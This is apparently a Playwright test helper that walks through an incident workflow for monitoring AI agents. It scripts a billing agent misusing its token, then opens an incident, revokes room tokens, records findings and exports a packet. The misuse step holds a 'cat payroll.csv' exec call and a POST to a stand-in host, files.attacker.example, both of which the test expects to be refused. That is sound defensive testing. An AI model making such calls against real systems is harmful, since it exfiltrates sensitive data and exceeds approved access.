// The walk of docs/incidents.md, step by step, as a new user takes it: the story checks it, and the documentation's pictures
// are taken on it.

import { expect, type Locator, type Page } from '@playwright/test';
import { db } from '#lib/db/client.ts';
import { newRoom } from './rooms.ts';
import { evaluate, gatewayWith, newAgent, type RunningJob, runningJob } from './scripted-agent.ts';

/** Called where the walk stands still and there is something to see. */
export type Look = (page: Page, name: string) => Promise<void>;

export type Misuse = { job: RunningJob; agentDid: string; again: () => Promise<boolean> };

const card = (page: Page, name: string): Locator => page.getByRole('region', { name, exact: true });
export const tile = (page: Page, term: string): Locator =>
  page
    .locator('dl > div')
    .filter({ has: page.getByText(term, { exact: true }) })
    .getByRole('definition');

/** An agent reads what it was approved to read, and then tries with the same token what nobody approved. */
export async function misuse(room: string): Promise<Misuse> {
  const agent = await newAgent('Billing agent');
  const roomId = await newRoom(room, { agentDid: agent.did });
  const job = await runningJob(agent, roomId, 'Reconcile the Q1 vendors and say which invoices are open');
  const gateway = gatewayWith(agent, job.token);
  const { context } = await evaluate(gateway, job.jobId, 0);
  await gateway.report(context.call_id ?? '', { status: 'success', value: { lines: 12 }, latencyMs: 40 });
  const upload = { url: 'https://files.attacker.example/upload', method: 'POST' };
  const tries = [
    { index: 1, tool: 'exec', args: { command: 'cat payroll.csv' } },
    { index: 1, tool: 'http', args: upload },
  ];
  for (const step of tries) expect(await gateway.evaluate(job.jobId, step)).toMatchObject({ decision: false });
  const again = () =>
    evaluate(gateway, job.jobId, 1).then(
      ({ decision }) => decision,
      () => false,
    );
  return { job, agentDid: agent.did, again };
}

/** Pastes the link to the message that asked for the job, and opens an incident from the answer. */
export async function openFromLink(page: Page, { job }: Misuse, title: string, look: Look): Promise<string> {
  await page.goto('/investigate');
  const link = `https://matrix.to/#/${job.roomId}/${job.requestEventId}`;
  await page.getByRole('searchbox', { name: 'What do you have?' }).fill(link);
  await page.getByRole('button', { name: 'Find' }).click();
  const open = page.getByRole('link', { name: 'Open an incident from this' });
  await expect(open).toBeVisible();
  await look(page, 'incident-investigate');
  await open.click();
  await page.waitForURL(/\/incidents\/new\?/);
  await page.getByRole('textbox', { name: 'Title' }).fill(title);
  // Whatever else runs in the room is concerned too: neither who approved this job nor its end narrows it.
  for (const kind of ['approver', 'policy']) {
    await page.getByRole('button', { name: new RegExp(`^Take away ${kind} `) }).click();
  }
  await page.getByLabel('Asked for until (UTC)').fill('');
  await expect(card(page, 'What fits now')).toContainText('1 job fits, 1 not ended');
  await expect(card(page, 'What fits now')).toContainText('1 outstanding token, 2 refused calls');
  await look(page, 'incident-new');
  await page.getByRole('button', { name: 'Open the incident' }).click();
  await page.waitForURL(/\/incidents\/INC-/);
  await expect(page.getByRole('heading', { level: 1 })).toContainText(title);
  await expect(tile(page, 'Outstanding tokens')).toContainText('1');
  await expect(card(page, 'Calls')).toContainText('exec');
  await look(page, 'incident-open');
  return page.url();
}

/** From the incident to the desk of controls, filled in, and back with the control attached. */
export async function revokeRoom(page: Page, incident: string, reason: string, look: Look): Promise<void> {
  await page.goto(incident);
  const controls = card(page, 'Controls');
  await expect(controls.getByRole('link', { name: 'Triage… over Everything' })).toBeVisible();
  await look(page, 'incident-stop');
  await controls.getByRole('link', { name: 'Revoke… over Room' }).click();
  const desk = page.getByRole('region', { name: 'Apply a control' });
  await expect(desk.getByRole('radio', { name: 'Revoke', exact: true })).toBeChecked();
  await expect(desk.getByRole('status').filter({ hasText: /Stops 1 running job and revokes 1 token\./ })).toBeVisible();
  await desk.getByRole('textbox', { name: 'Reason' }).fill(reason);
  await look(page, 'incident-control');
  await desk.getByRole('button', { name: 'Revoke…' }).click();
  await page
    .getByRole('dialog')
    .getByRole('button', { name: /^Revoke tokens: room/ })
    .click();
  await page.waitForURL(incident);
  await expect(controls).toContainText(reason);
  await expect(tile(page, 'Outstanding tokens')).toContainText('none is worth anything');
}

export async function addFinding(page: Page, text: string, about: string): Promise<void> {
  const form = page.getByRole('form', { name: 'Add a finding' });
  await form.getByRole('textbox', { name: 'What you found' }).fill(text);
  await form.getByRole('textbox', { name: 'About' }).fill(about);
  await form.getByRole('button', { name: 'Add the finding' }).click();
  await expect(card(page, 'Findings').getByRole('listitem').filter({ hasText: text })).toContainText(about);
}

export async function close(page: Page, conclusion: string): Promise<void> {
  await page.getByRole('button', { name: 'Close the incident' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('textbox', { name: 'Conclusion' }).fill(conclusion);
  await dialog.getByRole('button', { name: 'Close it with this conclusion' }).click();
  await expect(page.getByRole('main')).toContainText(`“${conclusion}”`);
}

/** Asks for the packet and waits until it can be downloaded. */
export async function exportPacket(page: Page): Promise<void> {
  const packet = card(page, 'Packet');
  await packet.getByRole('button', { name: 'Export the packet' }).click();
  await expect(packet.getByRole('link', { name: 'Download the packet' })).toBeVisible({ timeout: 60_000 });
}

export const sealedPackage = (jobId: string) =>
  expect
    .poll(() => db().package.findUnique({ where: { jobId }, select: { state: true } }), 'the package is sealed')
    .toMatchObject({ state: 'sealed' });
